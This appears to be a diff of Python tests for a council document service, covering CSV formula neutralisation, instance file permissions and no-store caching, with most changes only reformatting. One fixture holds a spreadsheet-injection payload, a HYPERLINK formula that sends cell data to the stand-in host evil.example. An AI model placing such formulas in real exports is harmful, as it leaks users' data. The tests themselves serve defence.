@@ -1,5 +1,6 @@
 """Files, caches and spreadsheets: the glossary CSV cannot carry a live formula, instance files are the service's
 alone, browsers are told to use HTTPS only and never to store letters, downloads or API answers."""
+
 from __future__ import annotations
 
 import csv
@@ -16,7 +17,7 @@ def _mode(path: Path) -> int:
 
 
 # --- glossary CSV export ---
-def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):
+def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):  # noqa: F811
     from easyread import council_glossary
 
     nasty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd"]
@@ -28,10 +29,14 @@ def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, st
     rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
     cells = [cell for row in rows[1:] for cell in row]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells and "'=1+1" in cells
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells and "'=1+1" in cells
     # Uploading the exported file gives back the same words, without the apostrophes.
-    r = post(staff_client, "/glossary/import", {"mode": "replace", "file": (io.BytesIO(exported.get_data()), "glossary.csv")},
-             content_type="multipart/form-data")
+    r = post(
+        staff_client,
+        "/glossary/import",
+        {"mode": "replace", "file": (io.BytesIO(exported.get_data()), "glossary.csv")},
+        content_type="multipart/form-data",
+    )
     assert r.status_code == 302
     back = {e.term: e.explanation for e in council_glossary.load_entries(app.instance_path, staff.council_id)}
     assert back["word 0"] == nasty[0] and back["=1+1"] == "A plain explanation." and back["word 3"] == "@cmd"
@@ -55,9 +60,17 @@ def test_instance_files_and_folders_are_the_services_alone(tmp_path, monkeypatch
     try:
         instance = tmp_path / "instance"
         create_app({"INSTANCE_PATH": str(instance), "TESTING": True, "QUEUE_URL": ""})  # the queue file
-        app = create_app({"INSTANCE_PATH": str(instance), "TESTING": True, "QUEUE_URL": "immediate", "PICTURE_DEFAULT_SET": "none"})
+        app = create_app(
+            {"INSTANCE_PATH": str(instance), "TESTING": True, "QUEUE_URL": "immediate", "PICTURE_DEFAULT_SET": "none"}
+        )
         with app.app_context():
-            create_user("s@testshire.gov.uk", "Sam", "staff", get_or_create_council("Testshire Council"), "correct-horse-battery-staple")
+            create_user(
+                "s@testshire.gov.uk",
+                "Sam",
+                "staff",
+                get_or_create_council("Testshire Council"),
+                "correct-horse-battery-staple",
+            )
             db.session.commit()
         client = app.test_client()
         post(client, "/sign-in", {"email": "s@testshire.gov.uk", "password": "correct-horse-battery-staple"})
@@ -81,7 +94,9 @@ def test_an_existing_open_instance_is_closed_on_start(tmp_path):
     (instance / "easyread.db").chmod(0o644)
     old = os.umask(0o022)
     try:
-        create_app({"INSTANCE_PATH": str(instance), "TESTING": True, "DATABASE_URL": f"sqlite:///{tmp_path / 'other.db'}"})
+        create_app(
+            {"INSTANCE_PATH": str(instance), "TESTING": True, "DATABASE_URL": f"sqlite:///{tmp_path / 'other.db'}"}
+        )
     finally:
         os.umask(old)
     assert _mode(instance) == 0o700 and _mode(instance / "easyread.db") == 0o600
@@ -109,8 +124,13 @@ def test_downloads_and_api_answers_are_never_stored(app, staff, staff_client, up
         _, token = users.create_token(db.session.get(User, staff.id), "t", actor="test")
         db.session.commit()
     headers = {"Authorization": f"Bearer {token}"}
-    for url in (f"/api/v1/documents/{doc_id}", f"/api/v1/documents/{doc_id}/draft", f"/api/v1/documents/{doc_id}/report",
-                "/api/v1/documents", f"/api/v1/documents/{doc_id}/outputs/txt"):
+    for url in (
+        f"/api/v1/documents/{doc_id}",
+        f"/api/v1/documents/{doc_id}/draft",
+        f"/api/v1/documents/{doc_id}/report",
+        "/api/v1/documents",
+        f"/api/v1/documents/{doc_id}/outputs/txt",
+    ):
         response = anon_client.get(url, headers=headers)
         assert response.status_code == 200, url
         assert response.headers["Cache-Control"] == "no-store", url
